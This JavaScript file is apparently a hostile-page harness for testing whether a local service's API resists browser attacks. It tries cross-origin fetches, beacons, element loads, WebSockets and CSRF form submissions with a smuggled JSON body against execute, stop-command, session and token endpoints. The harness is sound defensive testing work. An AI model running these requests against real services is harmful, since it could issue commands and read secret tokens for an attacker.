/**
 * What a hostile page can try, all of it. The attacker's server sends this to
 * the browser as it is.
 *
 * Each attempt tells what the page could read of the answer, or that something
 * of it took effect in the page; nothing when the browser gave it nothing.
 */

/** A page waits this long for what a browser may never tell it. */
const PATIENCE_MS = 1500

/** Every way to ask `base` for something, or to make it do what `stop` says, all at once. */
async function attack(base, stop) {
  return (await Promise.all([...requests(base, stop), ...loads(base), ...forms(base, stop)])).flat()
}

function requests(base, stop) {
  const json = { 'content-type': 'application/json' }
  const execute = `${base}/api/v2/execute`
  const ask = async (how, path, init = {}) => {
    const signal = AbortSignal.timeout(2 * PATIENCE_MS)
    const answer = await fetch(base + path, { ...init, signal }).catch(() => undefined)
    const read = await answer?.text().catch(() => undefined)
    return { how: `${how} ${init.credentials} ${base}${path}`, read, status: answer?.status || undefined }
  }
  navigator.sendBeacon(execute, new Blob([stop], { type: 'text/plain' }))
  navigator.sendBeacon(execute, new Blob([stop], { type: 'application/json' }))

  return ['omit', 'include'].flatMap(credentials => {
    const post = { method: 'POST', body: stop, credentials }
    const reads = ['/api/v2/units', '/api/v2/health', '/api/v2/session', '/', '/gateway.token']
    return [
      ...reads.flatMap(path => [
        ask('GET', path, { credentials }),
        ask('no-cors GET', path, { credentials, mode: 'no-cors' })
      ]),
      ask('simple POST', '/api/v2/execute', post),
      ask('no-cors POST', '/api/v2/execute', { ...post, mode: 'no-cors' }),
      ask('JSON POST', '/api/v2/execute', { ...post, headers: json }),
      ask('JSON blob POST', '/api/v2/execute', { ...post, body: new Blob([stop], { type: 'application/json' }) }),
      ask('no-cors JSON POST', '/api/v2/execute', { ...post, headers: json, mode: 'no-cors' }),
      ask('POST with a guess', '/api/v2/execute', { ...post, headers: { ...json, authorization: 'Bearer x' } }),
      ask('stream', '/api/v2/stream', { ...post, headers: json }),
      ask('command by path', '/api/v2/command/node.stop', { ...post, headers: json, body: '{}' }),
      ask('session', '/api/v2/session', { ...post, headers: json, body: '{}' }),
      ask('log out', '/api/v2/session', { method: 'DELETE', credentials })
    ]
  })
}

/** The first of these events, or `timeout`. */
const firstOf = (target, ...events) =>
  new Promise(resolve => {
    for (const event of events) target.addEventListener(event, () => resolve(event), { once: true })
    setTimeout(() => resolve('timeout'), PATIENCE_MS)
  })

function loads(base) {
  const element = async (name, attributes) => {
    const made = Object.assign(document.createElement(name), attributes)
    const settled = firstOf(made, 'load', 'error')
    document.body.append(made)
    return { how: `${name} ${base}`, read: (await settled) === 'load' ? 'TOOK EFFECT' : undefined }
  }
  const connection = async (how, target) => {
    const event = await firstOf(target, 'open', 'message', 'error', 'close')
    target.close()
    return { how: `${how} ${base}`, read: ['open', 'message'].includes(event) ? 'TOOK EFFECT' : undefined }
  }
  const frame = document.createElement('iframe')
  return [
    intoFrame('iframe', base, () => {
      frame.src = `${base}/api/v2/units`
    }, frame),
    element('script', { src: `${base}/api/v2/units` }),
    element('img', { src: `${base}/api/v2/units` }),
    element('link', { rel: 'stylesheet', href: `${base}/health/live` }),
    connection('EventSource', new EventSource(`${base}/api/v2/stream`, { withCredentials: true })),
    connection('WebSocket', new WebSocket(`${base.replace('http', 'ws')}/api/v2/stream`))
  ]
}

function forms(base, stop) {
  const types = ['text/plain', 'application/x-www-form-urlencoded', 'multipart/form-data']
  return types.map(enctype => {
    const frame = document.createElement('iframe')
    frame.name = crypto.getRandomValues(new Uint32Array(1)).join()
    const form = document.createElement('form')
    Object.assign(form, { method: 'POST', action: `${base}/api/v2/execute`, enctype, target: frame.name })
    // A text form whose only field is JSON, with the "=" hidden in a string.
    const field = Object.assign(document.createElement('input'), {
      name: `${stop.slice(0, -1)},"x":"`,
      value: '"}'
    })
    form.append(field)
    document.body.append(form)
    return intoFrame(`form ${enctype}`, base, () => form.submit(), frame)
  })
}

/** Loads something into a frame, and reads what the browser lets this page read of it. */
async function intoFrame(how, base, load, frame) {
  document.body.append(frame)
  const settled = firstOf(frame, 'load', 'error')
  load()
  await settled
  let read
  try {
    read = frame.contentDocument.body.textContent
  } catch {
    // Another origin's: nothing can be read.
  }
  return { how: `${how} ${base}`, read }
}
